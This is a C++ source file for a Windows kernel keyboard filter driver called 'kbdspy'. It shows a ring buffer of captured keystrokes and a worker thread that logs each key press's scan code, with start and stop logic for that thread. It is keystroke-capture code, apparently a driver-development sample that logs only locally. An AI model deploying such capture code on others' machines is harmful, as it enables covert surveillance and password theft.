#include "kbdspy.h"

namespace ks {

PDEVICE_OBJECT Spy::Filter = nullptr;
PDEVICE_OBJECT Spy::Lower = nullptr;
volatile LONG  Spy::Pending = 0;
Stroke         Spy::Ring[KS_RING];
ULONG          Spy::Head = 0;
ULONG          Spy::Tail = 0;
KSPIN_LOCK     Spy::RingLock;
KEVENT         Spy::Wake;
PETHREAD       Spy::Thread = nullptr;
bool           Spy::Stop = false;

void Spy::InitState()
{
    KeInitializeSpinLock(&RingLock);
    KeInitializeEvent(&Wake, SynchronizationEvent, FALSE);
    Head = Tail = 0;
    Stop = false;
}

void Spy::Push(USHORT make, USHORT flags)
{
    KIRQL irql;
    KeAcquireSpinLock(&RingLock, &irql);
    ULONG next = (Head + 1) % KS_RING;
    if (next != Tail) {                 // full -> drop
        Ring[Head] = { make, flags };
        Head = next;
    }
    KeReleaseSpinLock(&RingLock, irql);
    KeSetEvent(&Wake, IO_NO_INCREMENT, FALSE);
}

bool Spy::Pop(Stroke& out)
{
    KIRQL irql;
    bool got = false;
    KeAcquireSpinLock(&RingLock, &irql);
    if (Tail != Head) {
        out = Ring[Tail];
        Tail = (Tail + 1) % KS_RING;
        got = true;
    }
    KeReleaseSpinLock(&RingLock, irql);
    return got;
}

static void WorkerMain(PVOID)
{
    Stroke s;
    ULONG total = 0;

    for (;;) {
        KeWaitForSingleObject(&Spy::Wake, Executive, KernelMode, FALSE, nullptr);
        while (Spy::Pop(s)) {
            if (!(s.Flags & KEY_BREAK)) {
                total++;
                KS_LOG("key 0x%02X (#%lu)", s.MakeCode, total);
            }
        }
        if (Spy::Stop)
            break;
    }
    PsTerminateSystemThread(STATUS_SUCCESS);
}

NTSTATUS Spy::StartWorker()
{
    HANDLE h = nullptr;
    NTSTATUS status = PsCreateSystemThread(&h, THREAD_ALL_ACCESS, nullptr, nullptr, nullptr,
                                           WorkerMain, nullptr);
    if (!NT_SUCCESS(status))
        return status;

    // keep a referenced pointer so unload can wait for the thread to really exit
    status = ObReferenceObjectByHandle(h, SYNCHRONIZE, *PsThreadType, KernelMode,
                                       reinterpret_cast<PVOID*>(&Thread), nullptr);
    if (!NT_SUCCESS(status)) {
        // cannot wait without the object: stop it and give up the handle after it is gone
        Stop = true;
        KeSetEvent(&Wake, IO_NO_INCREMENT, FALSE);
        ZwWaitForSingleObject(h, FALSE, nullptr);
        Thread = nullptr;
    }
    ZwClose(h);
    return status;
}

void Spy::StopWorker()
{
    if (!Thread)
        return;
    Stop = true;
    KeSetEvent(&Wake, IO_NO_INCREMENT, FALSE);
    KeWaitForSingleObject(Thread, Executive, KernelMode, FALSE, nullptr);
    ObDereferenceObject(Thread);
    Thread = nullptr;
}

} // namespace ks
